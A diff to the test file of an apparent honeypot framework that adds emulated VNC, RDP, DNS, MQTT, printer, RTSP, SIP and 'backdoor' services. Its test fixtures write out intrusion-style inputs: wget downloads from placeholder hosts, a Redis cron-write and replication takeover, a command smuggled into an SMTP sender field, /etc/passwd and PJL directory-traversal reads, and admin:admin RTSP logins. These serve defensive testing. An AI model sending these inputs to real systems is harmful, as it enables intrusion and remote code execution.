@@ -14,19 +14,36 @@ from eudaemon.protocols import ROOMS, load
 from eudaemon.protocols._base import Ended, HalfClosed
 from eudaemon.protocols._front import Front
 from eudaemon.protocols.kubelet.node import node_of
+from eudaemon.protocols.vnc.des import answer
+from eudaemon.protocols.vnc.room import password_of
 from eudaemon.testing.script import Table, visit
 from eudaemon.wire import Purse
 from eudaemon.world.host import Host
 from eudaemon.world.outside import Downloaded
 from eudaemon.world.seed import Seed
-from protocols import mongo_client, mssql_client, mysql_client, postgres_client, smb_client, ssh_client
+from protocols import mongo_client, mssql_client, mysql_client, postgres_client, rdp_client, smb_client, ssh_client
 from protocols.adb_client import CONNECT, frame
 
 HOST = Host.from_seed(Seed(b"test"))
 HELD_BYTES_MAX = 512 * 1024
+
+
+def vnc_login() -> tuple[bytes, ...]:
+    """What a client chooses, and what it answers to the challenge where there is one."""
+    table = Table(load("vnc")(visit(host=HOST))).open()
+    kind = table.say(b"RFB 003.008\n")[1:]
+    challenge = table.say(kind)
+    return (kind, answer(password_of(HOST), challenge)) if len(challenge) == 16 else (kind,)
+
+
 POD = node_of(HOST).pods[0]
 PLACE = f"{POD.namespace}/{POD.name}/{POD.container}".encode()
 
+# What a client of VNC says: version, choice, answer, shared, then messages.
+VNC = (
+    b"RFB 003.", b"008\n", *vnc_login(), b"\x01", b"\x02\0\0\x01\0\0", b"\0\x02", b"\x03\0\0\0\0\0\0\x09\0\x09",
+    b"\x04\x01\0\0\0\0\0a", b"\x06\0\0\0\0\0\0\x03ab",
+)  # fmt: skip
 # What leads a room through its stages, in order; each piece ends where a new stage begins.
 OPENINGS: dict[str, tuple[bytes, ...]] = {
     "activemq": (
@@ -40,7 +57,9 @@ OPENINGS: dict[str, tuple[bytes, ...]] = {
         frame(b"WRTE", 2, 2, b"wget http://a/b\r"), frame(b"OPEN", 3, 0, b"shell,v2,raw:\0"),
         frame(b"WRTE", 3, 3, b"\0\x09\0\0\0id"),
     ),
+    "backdoor": (b"PW", b"D1", b"TID", b"SFT059\0MZ", b"MZ12345"),
     "catchall": (b"cd /tmp || cd /var/run; ".ljust(70), b"echo a > b\n", b"wget http://198.51.100.7/x\n"),
+    "dns": (b"\0\x1e\0\x06\x01", b"\0\0\x01\0\0\0\0\0\0\x07version\x04bind\0\0\x10\0\x03\0\x0c", b"\0\0\x10"),
     "docker": (
         b"POST /images/create?fromImage=alpine HTTP/1.0\r\nConnection: keep-alive\r\n\r\n",
         b"POST /v1.41/containers/create HTTP/1.1\r\nHost: a\r\nContent-Length: 67\r\n\r\n", b'{"Image":"alpine",',
@@ -83,12 +102,34 @@ OPENINGS: dict[str, tuple[bytes, ...]] = {
     "mssql": tuple(mssql_client.opening()),
     "mysql": tuple(mysql_client.opening(Table(load("mysql")(visit(host=HOST))).open())),
     "postgres": tuple(postgres_client.opening()),
+    "mqtt": (
+        b"\x10", b"\x10\0\x04MQTT\x04\x02\0\x1e\0\x04nmap", b"\x82\x06\0\x01\0\x01", b"#\0",
+        b"\x33\x7f\0\x01a\0\x07",
+    ),
+    "printer": (
+        b"\x1b%-12345X@PJL ", b"INFO ID\r\n", b'@PJL FSDOWNLOAD FORMAT:BINARY SIZE=9 NAME="0:/a"\r\nabc', b"defghi",
+        b"@PJL ENTER LANGUAGE=PCL\r\n", b"\x1bE\x1b%-12",
+    ),
+    "rdp": (
+        rdp_client.request(b"mstshash=a", 3)[:9], rdp_client.request(b"mstshash=a", 3)[9:],
+        rdp_client.connect("rdpdr", "MS_T120"), rdp_client.ERECT, rdp_client.ATTACH, rdp_client.join(1004),
+        rdp_client.send(1003, rdp_client.info("", "a", "b")), b"\4\4\0", b"\x13", rdp_client.send(1005, b"abc"),
+    ),
     "pop3": (
         b"CAPA\r\n", b"USER root\r\n", b"PASS root\r\n", b"LIST\r\n", b"RETR 1\r\n",
     ),
     "redis": (
         b"*2\r\n", b"$3\r\nGET\r\n$5\r\n", b"abcde\r\n", b"config set dir /etc/cron.d\r\n", b"set x '* * * * * id'\r\n",
         b"slaveof 192.0.2.9 1\r\nmodule load x\r\n", b"*2\r\n$11\r\nsystem.exec\r\n$15\r\nwget http://a/b\r\n",
+    ),
+    "rtsp": (
+        b"OPTIONS ", b"* RTSP/1.0\r\n", b"CSeq: 1\r\n\r\n",
+        b"SETUP rtsp://admin:admin@a/ RTSP/1.0\r\nTransport: RTP/AVP\r\n", b"Content-Length: 3\r\n\r\nab",
+        b"c", b"$\0\0\x08ab",
+    ),
+    "sip": (
+        b"OPTIONS sip:", b"a SIP/2.0\r\n", b"Via: a\r\n\r\n",
+        b"INVITE sip:0044203123456@a SIP/2.0\r\nContent-Length: 3\r\n\r\nab", b"c",
     ),
     "smb": (
         smb_client.OPENING1[0][:40], smb_client.OPENING1[0][40:], *smb_client.OPENING1[1:], smb_client.look(),
@@ -114,6 +155,7 @@ OPENINGS: dict[str, tuple[bytes, ...]] = {
         b"POST /ws/v1/cluster/apps HTTP/1.1\r\nContent-Length: 67\r\n\r\n", b'{"am-container-spec":{"commands":',
         b'{"command":"wget http://a/b;id"}}}', b"GET /ws/v1/cluster/apps HTTP/1.1\r\n\r\n",
     ),
+    "vnc": tuple(VNC),
 }  # fmt: skip
 # Of what a test sends at random, much is what these rooms listen to.
 WORDS = [
@@ -138,6 +180,19 @@ WORDS = [
     b"\0\0\0\x20\x1f" + bytes(10) + b"\1\0\5a.b.c\1\0\x0ahttp://a/b", b"\0\0\0\6\5\0\0\0\1\1",
     b"\x30\x0c\2\1\1\x60\x07\2\1\3\4\0\x80\0", b"\x30\x1d\2\1\2\x63\x18\4\0\x0a\1\2\x0a\1\0\2\1\0\2\1\0\1\1\0",
     b"\x87\1a\x30\0", b"\xa2\3\x87\1a", b"\x30\5\2\1\3\x42\0",
+    b"PWD", b"TID", b"SFT053\0abc", b"\x85\x13\x3c\x9e\xa2", b"UPDF\5\0\0\0a\0", b"022\xac\r\n", b"C:\\a\r\n3\r\n",
+    b"\0\x0c\0\6\1\0\0\1\0\0\0\0\0\0", b"\0\6\1\0\0\1\0\0\0\0\0\0\1a\0\0\xff\0\1", b"\x1b" + bytes(47),
+    b"\x17\0\3\x2a" + bytes(4), b"\x10\x0c\0\4MQTT\4\2\0\0\0\0", b"\x82\6\0\1\0\1#\0", b"\x33\7\0\1a\0\1hi",
+    b"\x1b%-12345X", b"@PJL INFO ID\r\n",
+    b'@PJL FSDIRLIST NAME="0:/../.." ENTRY=1\r\n', b'@PJL FSDOWNLOAD SIZE=3 NAME="0:/a"\r\nabc',
+    b"@PJL ENTER LANGUAGE=PCL\n", b"DESCRIBE rtsp://admin:admin@a/ RTSP/1.0\r\n\r\n",
+    b"SETUP / RTSP/1.0\r\nTransport: RTP/AVP\r\n\r\n", b"$\0\0\1a",
+    b"OPTIONS sip:a SIP/2.0\r\n\r\n", b"INVITE sip:00442031234567@a SIP/2.0\r\nContent-Length: 2\r\n\r\nab",
+    b"REGISTER sip:a SIP/2.0\r\nAuthorization: Digest username=a, nonce=b, response=c\r\n\r\n", b"RFB 003.008\n",
+    rdp_client.request(), rdp_client.connect("a"), rdp_client.ATTACH,
+    rdp_client.send(1003, rdp_client.info("a", "b", "c")),
+    b"\4\4\0\x13", b"\x08\x06\2\x5b\0\x1c",
+    b"\1", b"\2", b"\3\0\0\0\0\0\0\x09\0\x09", b"\4\1\0\0\0\0\0a", b"\6\0\0\0\0\0\0\3abc",
     b"EPSV\r\n", b"STOR x\r\n", b"LIST\r\n", b"ABOR\r\n", b"SITE CPFR /etc/passwd\r\n", b"AUTH TLS\r\n",
     b"\0\2a\0octet\0", b"\0\3\0\1abc", b"\0\1/etc/hostname\0octet\0blksize\x008\0",
     b"EHLO a\r\n", b"MAIL FROM:<;wget a/b;>\r\n", b"RCPT TO:<b>\r\n", b"DATA\r\n", b".\r\n", b"\r\n.",
@@ -155,12 +210,8 @@ WORDS = [
 
 FRONT = "front"  # no room of its own: telnet and HTTP on one port
 NAMES = (*ROOMS, FRONT)
-SERVED = [(name, "tcp") for name in NAMES] + [
-    ("catchall", "udp"),
-    ("memcached", "udp"),
-    ("tftp", "udp"),
-    ("upnp", "udp"),
-]
+_UDP = ("catchall", "dns", "memcached", "ntp", "sip", "tftp", "upnp")
+SERVED = [(name, "tcp") for name in NAMES] + [(name, "udp") for name in _UDP]
 names = pytest.mark.parametrize("name", NAMES)
 bounded = settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
 
